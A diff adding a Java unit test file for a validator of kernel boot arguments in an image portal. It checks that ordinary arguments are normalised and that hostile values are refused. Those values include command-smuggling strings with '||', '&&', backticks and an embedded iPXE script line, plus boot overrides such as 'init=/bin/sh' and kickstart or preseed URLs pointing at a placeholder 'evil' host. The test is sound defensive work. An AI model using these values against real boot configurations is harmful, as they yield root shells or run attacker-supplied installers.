@@ -1,0 +1,70 @@
+package org.yuzuri.portal.image;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.yuzuri.portal.platform.ProblemException;
+
+class KernelArgumentsTest {
+
+  @Test
+  void usualArgumentsPassWithSingleSpaces() {
+    assertThat(KernelArguments.checked("  quiet   console=ttyS0,115200n8 ip=[::1] "))
+        .isEqualTo("quiet console=ttyS0,115200n8 ip=[::1]");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "quiet\n#!ipxe",
+        "quiet || shell",
+        "quiet && chain http://evil/",
+        "x=${mac}",
+        "x='y z'",
+        "x=\"y\"",
+        "quiet;reboot",
+        "quiet\u0000",
+        "a\tb",
+        "x=`id`",
+        "x=日本"
+      })
+  void syntaxOfScriptsIsRefused(String text) {
+    assertThatThrownBy(() -> KernelArguments.checked(text))
+        .isInstanceOf(ProblemException.class)
+        .hasMessageContaining("kernelArguments");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "rdinit=/bin/sh",
+        "quiet init=/bin/sh",
+        "initrd=evil",
+        "inst.ks=http://evil/ks",
+        "KS=http://evil/ks",
+        "preseed/url=http://evil/",
+        "BOOTIF=01-52"
+      })
+  void whatThePortalSetsItselfIsRefusedByName(String text) {
+    String last = text.substring(text.lastIndexOf(' ') + 1);
+
+    assertThatThrownBy(() -> KernelArguments.checked(text)).hasMessageContaining(last);
+  }
+
+  @Property(tries = 1000)
+  void whatPassesHoldsNoSyntaxOfAScript(@ForAll String text) {
+    String passed;
+    try {
+      passed = KernelArguments.checked(text);
+    } catch (ProblemException refused) {
+      return;
+    }
+    assertThat(passed).doesNotContainPattern("[\\n\\r\\t$`'\"\\\\|&;<>(){}#!*?]");
+    assertThat(passed).doesNotContain("  ").isEqualTo(passed.strip());
+  }
+}
